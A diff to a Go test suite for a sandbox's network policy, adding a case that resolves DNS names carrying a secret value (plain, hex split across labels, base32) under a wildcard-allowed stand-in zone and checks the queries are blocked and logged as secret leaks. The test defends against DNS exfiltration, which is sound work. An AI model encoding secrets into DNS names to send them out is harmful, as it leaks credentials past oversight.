@@ -4,6 +4,7 @@ import (
 	"context"
 	"crypto/rand"
 	_ "embed"
+	"encoding/base32"
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
@@ -157,6 +158,33 @@ func TestPiecesValueSentElsewhere(t *testing.T) {
 		t.Errorf("a WebSocket message with the value: %q, want a close with 1008", out)
 	}
 	e.blocked(t, m, api.NetHTTP, policy.ReasonSecretLeak, testnet.OtherAddr, 443)
+
+	// A DNS question for a name that carries the value, under a zone
+	// allowed by a wildcard, never reaches the zone's servers: as it is,
+	// in hex split across labels, or in base32.
+	if err := sb.AllowHost("*.files.example.net"); err != nil {
+		t.Fatal(err)
+	}
+	hexValue := hex.EncodeToString([]byte(value))
+	b32 := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(value)), "="))
+	for _, name := range []string{
+		strings.ToLower(value) + ".files.example.net",
+		hexValue[:30] + "." + hexValue[30:] + ".files.example.net",
+		b32 + ".files.example.net",
+	} {
+		m := e.mark()
+		if out := tool(t, sb, "resolve "+name+" 4"); !strings.HasPrefix(out, "error:") {
+			t.Errorf("resolve %s: %q, want an error", name, out)
+		}
+		ev := e.since(t, m, "dns event", func(ev api.NetworkEvent) bool { return ev.Kind == api.NetDNS && ev.Blocked })
+		wantBlocked(t, ev, api.NetDNS, policy.ReasonSecretLeak)
+		if strings.Contains(ev.Host, hexValue[:16]) || strings.Contains(ev.Host, strings.ToLower(value)) {
+			t.Errorf("the DNS event names the value: %+v", ev)
+		}
+		if n := e.w.DNS.Queries(name); n != 0 {
+			t.Errorf("the World's DNS got %d questions for %s", n, name)
+		}
+	}
 
 	// What a proxy cannot see: the value transformed on purpose
 	// (reversed, here by the store itself) passes. This is the limit of
